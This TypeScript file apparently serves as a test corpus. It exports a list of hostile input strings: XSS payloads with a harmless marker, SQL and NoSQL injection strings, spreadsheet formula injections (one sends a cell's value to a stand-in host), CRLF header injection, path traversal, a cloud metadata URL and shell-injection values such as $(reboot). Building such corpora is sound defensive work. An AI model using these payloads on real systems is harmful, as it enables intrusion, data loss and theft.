/** What a script of each text would do: leave a mark on the window, or an element that bears one. */
const act = 'window.hostile=1';

const scripts = [
  `<script data-hostile>${act}</script>`, `<img data-hostile src=x onerror=${act}>`, `<svg data-hostile onload=${act}>`, `"><img data-hostile src=x onerror=${act}>`, `'><svg/onload=${act} data-hostile>`,
  `</title><script data-hostile>${act}</script>`, `</textarea><script data-hostile>${act}</script>`, `</script><script data-hostile>${act}</script>`, `--></style></script><img data-hostile src onerror=${act}>`, `<iframe data-hostile srcdoc="<script>parent.hostile=1</script>">`,
  `<a data-hostile href="javascript:${act}">x</a>`, `javascript:${act}`, `jAvAsCrIpT:${act}`, `java\tscript:${act}`, `data:text/html,<script>${act}</script>`, `<object data-hostile data="javascript:${act}">`, `<embed data-hostile src="javascript:${act}">`, `<form data-hostile action="javascript:${act}"><input type=submit>`,
  `<math data-hostile><mtext><mglyph><style><img src onerror=${act}>`, `<noscript><p title="</noscript><img data-hostile src=x onerror=${act}>">`, `<details data-hostile open ontoggle=${act}>`, `<video data-hostile><source onerror=${act}>`, `<body data-hostile onload=${act}>`, `<meta data-hostile http-equiv=refresh content="0;url=javascript:${act}">`, `<base data-hostile href=//elsewhere.example/>`, `<link data-hostile rel=stylesheet href=//elsewhere.example/x.css>`, `<style data-hostile>*{background:url(javascript:${act})}</style>`, `<template data-hostile><script>${act}</script></template>`, `<![CDATA[<script data-hostile>${act}</script>]]>`, `<!--<img src="--><img data-hostile src=x onerror=${act}>`,
  `[x](javascript:${act})`, `![x](x"onerror="${act})`, `<javascript:${act}>`, `[x]: javascript:${act}`, '```<img data-hostile src onerror=window.hostile=1>```', `{{constructor.constructor('${act}')()}}`, `\${${act}}`, `#{${act}}`, `<%= ${act} %>`, `{%${act}%}`, `{"__html":"<img data-hostile src onerror=${act}>"}`,
  `\\u003cscript data-hostile\\u003e${act}`, `&lt;script data-hostile&gt;${act}&lt;/script&gt;`, `%3Cscript%20data-hostile%3E${act}%3C/script%3E`, `＜script data-hostile＞${act}＜/script＞`, `"}</script><script data-hostile>${act}</script>`, `]]></script><img data-hostile src onerror=${act}>`, `","@type":"Offer","x":"</script><img data-hostile src onerror=${act}>`, `' onmouseover='${act}' data-hostile='`, `" autofocus onfocus="${act}" data-hostile="`, '` onerror=window.hostile=1 data-hostile=`',
];

const queries = [`' or '1'='1`, `'; drop table orders; --`, `x') union select null, email from users --`, `1; select pg_sleep(5)`, `$1`, `$$x$$`, `\\'; --`, `%' escape '\\`, `"; truncate users; --`, `{"$gt":""}`, `*)(uid=*`, `|| 'x' ||`];
const formulas = [`=1+1`, `=cmd|'/c calc'!A1`, `@SUM(1+1)`, `+1+1`, `-1+1`, `=HYPERLINK("http://elsewhere.example?"&A1,"x")`, `\t=1+1`, `\r=1+1`, `=IMPORTXML("http://elsewhere.example","//a")`, `"=1+1`];
const odd = [
  '\u202eevitsoh', '\u2066x\u2069\u202d', 'a\u200b\u200c\u200d\ufeffb', 'Z\u0351\u036b\u0343\u036a\u0302\u0365\u0346a\u0310lgo', '\ufdfd'.repeat(5), '👩‍👩‍👧‍👦🏳️‍🌈', 'ﷺ', 'İıſK', 'ß', 'ŉ', '\u0001\u0002\u001f', '\u007f\u0080\u009f', '\ufffe\uffff', '\u2028\u2029', 'x\r\nSet-Cookie: hostile=1', 'x\r\nBcc: everyone@example.com', 'x%0d%0aBcc:everyone@example.com', '../../../../etc/passwd', '..\\..\\boot.ini', 'file:///etc/passwd', 'http://169.254.169.254/latest', '//elsewhere.example', '__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', 'true', '-0', '1e400', 'CON', '%s%s%n', '$(reboot)', '`reboot`', '; reboot', '| reboot', '<![endif]-->', 'अजरख राज़ाई', 'قالب', '日本語のキルト', 'W'.repeat(160), 'ॐ'.repeat(100), ' ', '\u00a0', '.', '-', '"', "'", '`', '\\', '<', '>', '&', '&amp;', '&#60;', '&nbsp;',
];

const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Quilt ${text}`,
  (text) => text.toUpperCase().replaceAll('WINDOW.HOSTILE', act.slice(0, 14)).replaceAll('DATA-HOSTILE', 'data-hostile'),
  (text) => text.replaceAll('<', '< ').replaceAll('>', ' >'),
  (text) => `"${text}"`,
  (text) => `x" ${text} y='`,
  (text) => text.replaceAll(' ', '/'),
  (text) => `\n${text}\n`,
  (text) => `${text}${text}`,
];

/** 500 and some texts that have run, broken or hidden something somewhere. */
export const hostileTexts: readonly string[] = [...new Set([...scripts.flatMap((text) => wraps.map((wrap) => wrap(text))), ...queries, ...formulas, ...odd])];
